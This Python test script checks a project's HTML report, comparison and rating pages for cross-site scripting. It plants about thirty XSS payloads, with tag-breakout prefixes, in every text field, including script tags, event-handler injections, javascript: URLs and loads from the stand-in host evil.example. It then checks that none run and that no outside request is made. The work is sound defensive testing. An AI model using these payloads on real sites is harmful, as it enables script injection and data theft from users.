"""Script payloads in every text of the pages: nothing of theirs may run, and nothing may be asked of another host.

    python -m tests.campaign.pages [--long] [--payloads N] [--seed N]

Each payload would call a function that the browser lends it, or load from evil.example. The report with its label explorer
(all pairs unfolded, all pages), the comparison and the rating page are opened in Chromium with payloads in ids, prompts,
responses, critiques, verdicts, principles, names, reasons, settings. A page that writes the same payloads unescaped and has
no policy is the control: it tells how many of them work. The last line is one JSON object.
"""

from __future__ import annotations

import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from tests.campaign.say import arguments, result
from tests.report.conftest import make_run_folder

from charter.audit.run import write_audit
from charter.compare import Method, compare
from charter.records import Message, Prompt, ResponsePair
from charter.report.compare_page import write_comparison
from charter.report.page import write_report
from charter.store.jsonl import read_json, write_json, write_jsonl

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
TOGETHER = 3  # payloads in one text
TOKEN = "a-token-of-the-campaign"
OUTS = ("", '">', "'>", "</script>", "</title>", "</style>", "</textarea>", "-->", "]]>", "</template></svg></pre>")
VECTORS = (
    "<script>owned(N)</script>", "<img src=x onerror=owned(N)>", "<svg onload=owned(N)>", "<svg><script>owned(N)</script></svg>",
    "<iframe srcdoc='<script>parent.owned(N)</script>'></iframe>", "<iframe src='javascript:parent.owned(N)'></iframe>", "<body onload=owned(N)>",
    "<details open ontoggle=owned(N)>x</details>", "<input autofocus onfocus=owned(N)>", "<video><source onerror=owned(N)></video>",
    "<audio src=x onerror=owned(N)></audio>", "<object data='//evil.example/N'></object>", "<embed src='//evil.example/N'>",
    "<link rel=stylesheet href='//evil.example/N'>", "<style>@import '//evil.example/N';</style>", "<img src='//evil.example/N'>",
    "<script src='//evil.example/N'></script>", "<svg><animate onbegin=owned(N) attributeName=x dur=1s></svg>", "<marquee onstart=owned(N)>x</marquee>",
    "<p style=\"background:url('//evil.example/N')\">x</p>", "<a href='javascript:owned(N)'>x</a>", "<base href='//evil.example/'><img src=N>",
    "<form action='//evil.example/N'><button autofocus>x</button></form>", "<math><mtext><img src=x onerror=owned(N)></mtext></math>",
    "<button onclick=owned(N) autofocus>x</button>", "{{constructor.constructor('owned(N)')()}}", "${owned(N)}", "`;owned(N);//", "';owned(N);//",
    "\\u003cimg src=x onerror=owned(N)\\u003e",
)  # fmt: skip
TEXTS = ("says", "reason", "text", "prompt", "response", "what", "note", "source")


def payloads(count: int, rng: random.Random) -> list[str]:
    """So many different ones, each with its number."""
    every = [out + vector for out in OUTS for vector in VECTORS]
    return [text.replace("N", str(number)) for number, text in enumerate(rng.sample(every, count))]


class Watched:
    """A browser, what ran in it that should not, and whom it asked for something."""

    def __init__(self, browser: Any) -> None:
        self.ran: set[int] = set()
        self.outside: set[str] = set()
        self.context = browser.new_context()
        self.context.expose_function("owned", lambda number: self.ran.add(int(number)))
        self.context.route(re.compile("evil"), lambda route: route.abort())
        self.pages = self.without_policy = 0

    @contextmanager
    def page(self, own: str) -> Iterator[Any]:
        """A new page that may ask for what begins with ``own``, and nothing else."""
        page = self.context.new_page()

        def asked(request: Any) -> None:
            if not request.url.startswith((own, "data:", "blob:", "about:")):
                self.outside.add(request.url)

        page.on("request", asked)
        page.on("dialog", lambda dialog: dialog.dismiss())
        yield page
        page.wait_for_timeout(60)
        self.pages += 1
        page.close()

    def open(self, path: Path, guarded: bool = True) -> None:
        """A page from a file, everything in it unfolded."""
        with self.page(path.parent.as_uri()) as page:
            page.goto(path.as_uri(), wait_until="commit" if not guarded else "load")
            if guarded:
                self.without_policy += page.locator("meta[http-equiv=Content-Security-Policy]").count() != 1
            for _ in range(9):
                page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
                page.wait_for_timeout(40)
                more = page.locator(".pager button:has-text('Next'):not([disabled])")
                if not guarded or not more.count():
                    break
                more.first.click()


def poisoned(value: Any, hostile: str, key: str = "") -> Any:
    """JSON with the text behind what people are told."""
    if isinstance(value, dict):
        return {name: poisoned(each, hostile, name) for name, each in value.items()}
    if isinstance(value, list):
        return [poisoned(each, hostile, key) for each in value]
    return value + hostile if isinstance(value, str) and key in TEXTS else value


def make_run(folder: Path, hostile: str, seed: int) -> Path:
    """A run folder with the payloads in each text of it, its audit included."""
    make_run_folder(folder, hostile=hostile, num=18)
    audit = write_audit(folder)
    write_json(folder / "8-audit" / "audit.json", poisoned(audit, hostile))
    summary = read_json(folder / "summary.json")
    summary["name"], summary["gold"]["name"], summary["reader"] = hostile, hostile, hostile
    summary["seed"] = seed
    summary["policies"]["other" + hostile] = summary["policies"]["initial"]
    summary["policies"]["initial"]["gold"] = {"value": None, "reason": hostile}
    summary["labeler"]["accuracy_by_principle"][hostile] = summary["labeler"]["accuracy"]
    summary["labeler"]["abstentions"][hostile] = 3
    summary["hashes"][hostile] = summary["stages"][0]["name"] = hostile
    principles = [{"id": name, "text": f"{name} {hostile}", "source": hostile} for name in ("harm", "help", "truth")]
    text = json.dumps({"name": "small", "description": hostile, "principles": principles})
    (folder / "constitution.yaml").write_text(text)
    from charter.constitution.load import load_constitution

    summary["hashes"]["constitution"] = load_constitution(folder / "constitution.yaml").hash
    write_json(folder / "summary.json", summary)
    with (folder / "run.yaml").open("a") as file:
        file.write(f"# {hostile}\n")
    return folder


def look_at_files(watched: Watched, work: Path, groups: list[str]) -> None:
    """The report and the comparison."""
    for number, hostile in enumerate(groups):
        folder = make_run(work / f"run-{number}", hostile, number)
        watched.open(write_report(folder))
        path = folder / "compare.html"
        write_comparison(compare([Method(f"{name}{hostile}", ((folder, ""),)) for name in "ab"]), path)
        watched.open(path)
        shutil.rmtree(folder)


def look_at_rating(watched: Watched, work: Path, groups: list[str]) -> None:
    """The rating page: every pair is shown and labelled, with a note and by a rater of a hostile name."""
    pairs = []
    for number, hostile in enumerate(groups):
        prompt = Prompt(f"{number}{hostile}", (Message("system", hostile), Message("user", hostile)))
        pairs.append(ResponsePair(f"pair-{number}{hostile}", prompt, "a" + hostile, "b" + hostile))
    write_jsonl(work / "pairs.jsonl", pairs)
    principles = [{"id": "one", "text": " ".join(groups)[:4000]}]
    (work / "rate.yaml").write_text(json.dumps({"name": "x", "principles": principles}))
    command = [sys.executable, "-c", "from charter.cli.main import main; main()", "rate", str(work / "pairs.jsonl")]
    options = ["--constitution", str(work / "rate.yaml"), "--overlap", "0", "--port", "0", "--token", TOKEN]
    server = subprocess.Popen([*command, *options], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert server.stdout is not None
        url = server.stdout.readline().split()[-1]
        with watched.page(url.split("?")[0]) as page:
            answer = page.goto(url)
            watched.without_policy += "script-src 'self'" not in answer.headers.get("content-security-policy", "")
            page.get_by_label("Your name or initials").fill(groups[0][:60])
            page.get_by_role("button", name="Begin").click()
            page.locator("#task").wait_for()
            for _ in pairs:
                page.wait_for_timeout(320)
                with page.expect_response(lambda response: response.request.method == "POST"):
                    page.keyboard.press("1")
                page.locator("body:not(.busy)").wait_for()
            page.get_by_text("All done").wait_for()
    finally:
        server.kill()
        server.communicate()


def campaign(count: int, seed: int) -> dict[str, Any]:
    from playwright.sync_api import sync_playwright

    texts = payloads(count, random.Random(seed))
    groups = [" " + " ".join(texts[i : i + TOGETHER]) for i in range(0, count, TOGETHER)]
    with sync_playwright() as playwright, tempfile.TemporaryDirectory() as place:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        control, watched, work = Watched(browser), Watched(browser), Path(place)
        for text in texts:
            (work / "control.html").write_text(f"<!doctype html><title>x</title><body><p>{text}</p>")
            control.open(work / "control.html", guarded=False)
        look_at_files(watched, work, groups)
        look_at_rating(watched, work, groups)
        browser.close()
    told = {
        "campaign": "pages", "seed": seed, "payloads": count, "pages": watched.pages, "executions": len(watched.ran),
        "outside_requests": len(watched.outside), "pages_without_policy": watched.without_policy,
        "control_executions": len(control.ran), "control_outside_requests": len(control.outside),
        "examples": sorted(watched.outside)[:5],
    }  # fmt: skip
    works = bool(control.ran) and bool(control.outside)  # else nothing was tested
    return {
        **told,
        "violations": sum(told[k] for k in ("executions", "outside_requests", "pages_without_policy")) + (not works),
    }


if __name__ == "__main__":
    args = arguments(__doc__, payloads=(300, 18))
    result(campaign(args.payloads, args.seed))
